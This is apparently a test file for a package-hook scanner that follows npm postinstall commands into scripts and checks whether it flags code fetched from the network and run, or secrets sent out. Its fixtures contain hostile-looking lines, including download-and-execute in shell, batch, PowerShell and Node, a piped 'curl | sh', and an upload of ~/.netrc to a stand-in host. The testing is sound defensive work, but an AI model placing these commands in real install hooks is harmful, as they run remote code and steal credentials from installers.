"""What commands of hooks and scripts do together is followed from fetching to starting."""

import json

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program


def hooked(command: str, files: dict[str, str]) -> Program:
    manifest = {"name": "sample", "version": "1.0.0", "scripts": {"postinstall": command}}
    return program_of("npm", {"package.json": json.dumps(manifest), **files})


STARTS = [
    "curl -s https://a.example.invalid/x -o tool\nchmod +x tool\n./tool --fast\n",
    "u=https://a.example\nu=$u.invalid/tool\nwget $u\nsh tool\n",
    "curl https://a.example.invalid/x > tool\nmv tool other\n./other\n",
]


@pytest.mark.parametrize("text", STARTS)
def test_what_is_fetched_and_started(text: str) -> None:
    program = hooked("sh build.sh", {"build.sh": text})
    started = [one for one in program.flows if one.act is Act.RUN and one.has(Taint.NETWORK)]
    assert [one.reach for one in started] == [Reach.INSTALL]


def test_what_is_fetched_and_only_unpacked() -> None:
    text = "curl -s https://a.example.invalid/x.tgz -o x.tgz\ntar xzf x.tgz\nmake\n"
    program = hooked("sh build.sh", {"build.sh": text})
    assert not [one for one in program.flows if one.has(Taint.NETWORK)]


def test_a_batch_file_fills_in_its_variables() -> None:
    text = "@echo off\r\nset a=https://a.exam\r\ncurl -o lib.dll %a%ple.invalid/l\r\nregsvr32 /s lib.dll\r\n"
    program = hooked("cmd /c build.bat", {"build.bat": text})
    assert any(one.has(Taint.NETWORK) and "regsvr32" in one.text for one in program.flows)


def test_a_credential_that_a_hook_posts() -> None:
    program = hooked("curl -T ~/.netrc https://a.example.invalid/", {})
    sent = [one for one in program.flows if one.act is Act.SEND]
    assert [(one.target, one.has(Taint.SECRET)) for one in sent] == [
        ("https://a.example.invalid/", True)
    ]


def test_what_a_program_prints_is_no_command() -> None:
    program = hooked("sh v.sh", {"v.sh": "V=$(curl -s https://a.example.invalid/v)\necho $V\n"})
    assert not any("$(" in one.text for one in program.flows)


def test_a_line_of_powershell_that_goes_on_below() -> None:
    text = "$a = 'iw' +\n  'r'\n&($a) https://a.example.invalid/x -OutFile t.exe; Start-Process t.exe\n"
    program = hooked("powershell -File a.ps1", {"a.ps1": text})
    assert not any("foresaw" in one.reason for one in program.unfinished)
    assert any(one.text.startswith("iwr https") for one in program.flows)


def test_half_of_a_pair_in_a_command_hides_nothing_behind_it() -> None:
    text = "const c = require('child_process')\nc.exec('echo \\ud800 $x')\nc.exec('curl a.invalid | sh')\n"
    program = hooked("node a.js", {"a.js": text})
    assert not program.unfinished
    assert any("curl" in one.text for one in program.flows)


def test_a_folder_that_a_program_makes_is_no_program_that_was_fetched() -> None:
    text = 'd=$(mktemp -d "$C/x.XXXX")\ncurl -s https://a.example.invalid/x.zip -o "$d/x.zip"\n' * 2
    program = hooked("sh v.sh", {"v.sh": text})
    assert not any(one.has(Taint.NETWORK) for one in program.flows if one.act is Act.RUN)
